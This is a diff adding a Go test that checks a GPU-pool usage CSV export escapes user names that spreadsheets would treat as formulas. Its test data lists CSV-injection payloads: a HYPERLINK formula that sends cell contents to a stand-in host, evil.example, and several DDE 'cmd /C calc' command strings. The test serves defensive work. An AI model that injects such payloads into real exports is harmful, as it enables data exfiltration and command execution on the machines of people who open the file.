@@ -632,3 +632,39 @@ func TestWaitingJobsStopAtGPUQuota(t *testing.T) {
 		t.Fatalf("alice's row: %+v", r)
 	}
 }
+
+// User names that a spreadsheet would take for a formula (=, +, -, @ first)
+// are written to the usage CSV with a leading apostrophe, so that opening
+// the export runs nothing; a name that is a plain number stays as it is.
+func TestUsageCSVNeutralisesFormulas(t *testing.T) {
+	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
+	gpu := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "gpu"})
+	cf, admin := withAdmin(t, poolCaddyfile(home.URL(), gpu.URL(), ""))
+	g := startCaddy(t, cf)
+	want := map[string]string{
+		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
+		`+cmd|' /C calc'!A0`:                         `'+cmd|' /C calc'!A0`,
+		`-2+3+cmd|' /C calc'!A0`:                     `'-2+3+cmd|' /C calc'!A0`,
+		`@SUM(1+1)*cmd|' /C calc'!A0`:                `'@SUM(1+1)*cmd|' /C calc'!A0`,
+		`-5`:                                         `-5`,
+	}
+	for user := range want {
+		if st, b, _ := g.do(user, "POST", "/api/prompt", map[string]any{"prompt": samplerWorkflow("c", 1)}); st != 200 {
+			t.Fatalf("%q: %d %s", user, st, b)
+		}
+	}
+	st, body, _ := admin.do("GET", "/comfyume/usage?format=csv")
+	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if st != 200 || err != nil || len(recs) != len(want)+1 {
+		t.Fatalf("CSV: %d %v\n%s", st, err, body)
+	}
+	for _, rec := range recs[1:] {
+		found := false
+		for _, w := range want {
+			found = found || rec[2] == w
+		}
+		if !found {
+			t.Fatalf("user cell %q is not one of the neutralised names %q", rec[2], want)
+		}
+	}
+}
